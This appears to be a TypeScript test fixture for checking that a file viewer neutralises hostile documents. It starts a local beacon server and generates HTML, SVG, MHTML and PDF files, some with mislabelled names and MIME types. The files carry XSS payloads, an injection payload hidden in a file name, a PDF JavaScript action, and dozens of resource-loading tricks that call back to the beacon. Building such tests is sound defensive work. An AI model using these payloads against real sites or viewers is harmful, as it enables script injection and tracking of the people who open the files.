/**
 * Files that attack whoever looks at them. Whatever runs sets `pwned` or asks the beacon; whatever is followed leaves
 * the page.
 */

import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { hostilePage } from '../site'

export interface Beacon {
  readonly url: string
  /** Paths that were asked. */
  readonly asked: readonly string[]
  close(): Promise<void>
}

/** A server that hears of every request that gets through, and serves the hostile page to be captured. */
export async function startBeacon(): Promise<Beacon> {
  const asked: string[] = []
  const server = createServer((request, response) => {
    asked.push(request.url ?? '')
    response.writeHead(200, { 'content-type': 'text/html', 'access-control-allow-origin': '*' })
    response.end(
      request.url === '/page'
        ? hostilePage.replace('<h1>', `${remote(`http://${request.headers.host}`)}<h1>`)
        : "<script>top.pwned='remote'</script>",
    )
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    asked,
    close: () =>
      new Promise((resolve) => {
        server.closeAllConnections()
        server.close(() => resolve())
      }),
  }
}

/** Every way a document asks somebody without a script. */
const remote = (beacon: string): string => `
  <base href="${beacon}/base/"><link rel="stylesheet" href="${beacon}/style.css"><link rel="prefetch" href="${beacon}/prefetch"><link rel="dns-prefetch" href="${beacon}">
  <style>@import url("${beacon}/import.css"); @font-face { font-family: f; src: url("${beacon}/font") } h1 { font-family: f; background: url("${beacon}/background") } h1::before { content: url("${beacon}/content") }</style>
  <img src="${beacon}/img"><img srcset="${beacon}/srcset 1x"><picture><source srcset="${beacon}/source"><img></picture><video poster="${beacon}/poster" src="${beacon}/video" autoplay></video>
  <iframe src="${beacon}/frame"></iframe><object data="${beacon}/object"></object><embed src="${beacon}/embed"><script src="${beacon}/script.js"></script>
  <table background="${beacon}/table"></table><body background="${beacon}/body"><input type="image" src="${beacon}/input" autofocus onfocus="top.pwned='focus'">
  <a href="${beacon}/followed" ping="${beacon}/ping" target="_top" style="position:fixed;inset:0;z-index:9">everywhere</a><form action="${beacon}/form" target="_top"><button autofocus>send</button></form>`

const html = (beacon: string): string =>
  hostilePage.replace('<h1>', `${remote(beacon)}<meta http-equiv="refresh" content="0;url=${beacon}/refresh"><h1>`)

const svg = (
  beacon: string,
): string => `<?xml version="1.0"?><?xml-stylesheet href="${beacon}/sheet"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="400" height="300" onload="top.pwned='svg'">
  <script>top.pwned='svg script'; fetch('${beacon}/fetch')</script><style>@import url("${beacon}/import"); rect { fill: url("${beacon}/fill#a") }</style>
  <image href="${beacon}/image" width="10" height="10"/><use xlink:href="${beacon}/use#a"/><foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;top.pwned='foreign'&lt;/script&gt;"/></foreignObject>
  <a xlink:href="javascript:top.pwned='link'" target="_top"><rect width="400" height="300" fill="teal"/></a><set attributeName="onmouseover" to="top.pwned='set'"/></svg>`

const mhtml = (beacon: string): string =>
  [
    'From: <Saved by Blink>',
    'Snapshot-Content-Location: http://console.example/',
    'MIME-Version: 1.0',
    'Content-Type: multipart/related; type="text/html"; boundary="----B"',
    '',
    '------B',
    'Content-Type: text/html',
    'Content-Location: http://console.example/',
    '',
    `${html(beacon)}<script src="cid:run@x"></script><img src="cid:svg@x"><link rel="stylesheet" href="cid:css@x"><iframe src="cid:frame@x"></iframe>`,
    '',
    '------B',
    'Content-Type: text/javascript',
    'Content-ID: <run@x>',
    '',
    "top.pwned='part'",
    '',
    '------B',
    'Content-Type: image/svg+xml',
    'Content-ID: <svg@x>',
    '',
    svg(beacon),
    '',
    '------B',
    'Content-Type: text/css',
    'Content-ID: <css@x>',
    '',
    `@import url("${beacon}/part.css"); body { background: url("${beacon}/part") } </style><script>top.pwned='style'</script>`,
    '',
    '------B',
    'Content-Type: text/html',
    'Content-ID: <frame@x>',
    '',
    "<script>top.pwned='part frame'</script>",
    '',
    '------B--',
    '',
  ].join('\r\n')

export interface HostileFile {
  readonly name: string
  readonly mime: string
  readonly text: string
}

/** Also under names and types that lie. */
export const hostileFiles = (beacon: string): readonly HostileFile[] => [
  { name: 'page.html', mime: 'text/html', text: html(beacon) },
  { name: 'page.xhtml', mime: 'application/xhtml+xml', text: html(beacon) },
  { name: 'drawing.svg', mime: 'image/svg+xml', text: svg(beacon) },
  { name: 'archive.mhtml', mime: 'multipart/related', text: mhtml(beacon) },
  { name: 'notes.txt', mime: 'text/plain', text: html(beacon) },
  { name: 'feed.xml', mime: 'application/xml', text: svg(beacon) },
  { name: 'screen.png', mime: 'image/png', text: html(beacon) },
  { name: '"><img src=x onerror=top.pwned=1>.html', mime: 'text/html', text: html(beacon) },
  {
    name: 'report.pdf',
    mime: 'application/pdf',
    text: `%PDF-1.4 1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj ${html(beacon)}`,
  },
]
